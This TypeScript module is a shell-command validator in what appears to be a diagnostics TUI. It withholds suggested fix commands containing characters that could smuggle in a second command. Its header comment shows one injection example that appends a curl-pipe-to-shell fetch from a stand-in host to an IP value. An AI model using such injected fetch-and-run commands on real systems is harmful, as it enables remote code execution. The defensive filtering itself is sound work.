// The last gate before a fix command is offered for copying (`c` in the TUI, every face's
// "fix" lines). Checks build fixes from templates filled with topology values and parsed
// outputs; a bundle or a host could smuggle `198.51.100.1; curl http://x | sh #` into one of
// those values. A command is offered only if a POSIX shell would read it as the plain words
// it looks like: outside single quotes nothing but word characters, spaces and `>`
// (sysctl.d), and a `#` comment to the end; no control character anywhere.
import type { Fix } from '../model/check.js';

export const WITHHELD_FIX = '# (command withheld: a value in it, read from a host or a bundle, is not a plain shell word)';

const PLAIN = /[A-Za-z0-9_./:=,@%+\-[\] >]/;
// eslint-disable-next-line no-control-regex
const CONTROL = /[\u0000-\u001f\u007f-\u009f]/;

export function isPlainShellCommand(command: string): boolean {
  if (CONTROL.test(command)) return false;
  let quoted = false;
  for (let i = 0; i < command.length; i++) {
    const c = command[i];
    if (quoted) {
      if (c === "'") quoted = false;
      continue;
    }
    if (c === "'") quoted = true;
    else if (c === '#' && (i === 0 || command[i - 1] === ' ')) return true;
    else if (!PLAIN.test(c)) return false;
  }
  return !quoted;
}

export function guardFixes(fixes: readonly Fix[]): Fix[] {
  return fixes.map((f) => (f.commands.every(isPlainShellCommand) ? f : { ...f, commands: f.commands.map((c) => (isPlainShellCommand(c) ? c : WITHHELD_FIX)) }));
}
